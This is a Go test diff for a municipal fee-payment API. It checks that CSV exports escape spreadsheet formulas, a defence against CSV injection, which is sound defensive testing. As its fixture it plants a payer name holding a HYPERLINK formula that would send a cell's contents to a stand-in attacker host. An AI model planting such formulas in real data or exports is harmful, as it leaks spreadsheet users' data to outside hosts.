@@ -87,3 +87,42 @@ func TestListsAndStatsAnswerCSV(t *testing.T) {
 		}
 	})
 }
+
+// A name typed as a formula stays text in a spreadsheet: the CSV cell gets
+// a leading apostrophe (CSV injection), numbers stay numbers.
+func TestCSVCellsAreNeverFormulas(t *testing.T) {
+	testdb.Each(t, func(t *testing.T, db *eventstore.DB) {
+		s := newStack(t, db, calendar.NewDate(2026, 3, 10))
+		id := s.payer("p-1", "1980-05-17", `=HYPERLINK("http://evil.example/"&A1)`)
+		pos := s.record(id, "LocalFeeLiabilityArose", map[string]any{"fee": "waste", "arose_on": "2026-01-15",
+			"basis": "permanent_residence", "house_number": "154", "village_part": "Nová Ves"})
+		req, _ := http.NewRequest("GET", fmt.Sprintf("%s/v1/payments?min_position=%d", s.url, pos), nil)
+		req.Header.Set("Authorization", "Bearer clerk-token")
+		req.Header.Set("Accept", "text/csv")
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(resp.Body).ReadAll()
+		resp.Body.Close()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("CSV: %v %v", rows, err)
+		}
+		header, row := rows[0], rows[1]
+		for i, name := range header {
+			switch name {
+			case "message":
+				if !strings.HasPrefix(row[i], `'=HYPERLINK(`) {
+					t.Errorf("message cell %q: a formula", row[i])
+				}
+			case "amount_czk":
+				if row[i] != "1200" {
+					t.Errorf("amount cell %q", row[i])
+				}
+			}
+			if c := row[i]; c != "" && strings.ContainsRune("=+@", rune(c[0])) {
+				t.Errorf("cell %s = %q begins a formula", name, c)
+			}
+		}
+	})
+}
